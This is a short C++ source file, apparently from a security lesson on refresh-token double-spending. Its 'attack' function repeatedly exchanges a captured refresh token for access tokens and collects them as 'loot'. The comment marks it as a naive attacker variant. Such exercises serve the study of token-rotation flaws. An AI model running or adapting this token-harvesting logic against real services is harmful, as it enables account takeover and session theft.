// Believes: eight refreshes are eight refreshes.
#include "double_spend.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  Loot loot;
  std::string token = evidence.refresh_token;
  for (int i = 0; i < 8; ++i) {
    const auto answer = evidence.at_once({token}).at(0);
    if (answer.status != 200) continue;
    loot.access_tokens.push_back(answer.json().text("access_token").value_or(""));
    token = answer.json().text("refresh_token").value_or("");
  }
  return loot;
}

}  // namespace lesson
